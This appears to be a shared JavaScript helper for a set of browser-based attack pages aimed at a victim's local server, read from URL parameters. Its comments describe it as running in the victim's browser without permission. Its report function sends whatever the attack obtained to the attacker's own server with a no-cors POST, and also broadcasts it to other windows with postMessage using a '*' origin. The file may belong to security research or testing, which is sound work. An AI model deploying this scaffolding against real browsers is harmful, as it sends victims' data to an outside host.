// What every attack page begins with: whom to attack, and how to tell what came of it.
// Notice: it needs nobody's permission. All it takes is to be open in a tab of the victim's browser.

const query = new URLSearchParams(location.search);
const target = query.get('target'); // the victim's server, e.g. http://localhost:8000
const answer = query.get('answer'); // the id of an answer, e.g. out of a link that was shared
const transport = query.get('transport');

// In large words on the page, to the page that shows this one, and to the attacker's own server.
// words: what to say when the page itself cannot tell whether it got anything.
function report(got, words) {
  const attack = document.title;
  const output = document.querySelector('output');
  output.textContent = words ?? (got || 'nothing');
  output.className = words ? 'unknown' : got ? 'got' : 'nothing';
  if (parent !== window) parent.postMessage({ attack, got }, '*');
  if (opener) opener.postMessage({ attack, got }, '*');
  const home = query.get('home') ?? location.origin;
  const body = JSON.stringify({ attack, got });
  fetch(`${home}/report${location.search}`, { method: 'POST', mode: 'no-cors', body }).catch(() => {});
}
